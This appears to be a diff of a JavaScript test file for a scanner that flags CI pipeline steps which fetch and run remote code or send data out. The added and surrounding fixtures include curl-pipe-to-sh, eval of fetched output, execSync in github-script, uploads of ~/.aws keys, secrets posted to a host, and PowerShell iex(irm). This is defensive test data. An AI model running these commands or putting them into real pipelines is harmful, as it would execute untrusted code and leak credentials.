@@ -42,6 +42,18 @@ describe('what services that build a project hand to a shell', () => {
     ['names', jobs('    - run: $G | ${{ env.S }}', `env:\n  G: curl ${U}\n  S: sh\n`), 'fetched-code'],
     ['lists', `a:\n  script:\n  - wget -O a ${U}\n  - sh a`, 'fetched-code'],
     ['a list by its name', `.g: &g\n- curl -so i ${U}\na:\n  script:\n  - *g\n  - bash i`, 'fetched-code'],
+    [
+      'names of later steps',
+      jobs(`    - run: echo "T=$(curl -s ${U})" >> $GITHUB_ENV\n    - run: eval "$T"`),
+      'fetched-code',
+    ],
+    [
+      'a script of JavaScript',
+      jobs(
+        `    - uses: actions/github-script@v7\n      with:\n        script: |\n          execSync('curl -s ${U} | sh')`,
+      ),
+      'fetched-code',
+    ],
     ['keys', jobs(`    - run: tar cz ~/.aws > k\n    - run: curl -T k ${U}`), 'attacking-script'],
     ['secrets', jobs('    - run: curl http://a.invalid -d "${{ secrets.A }}"'), 'fetched-code|attacking-script'],
     ['PowerShell', jobs(`    - shell: pwsh\n      run: iex (irm ${U})`), 'attacking-script'],
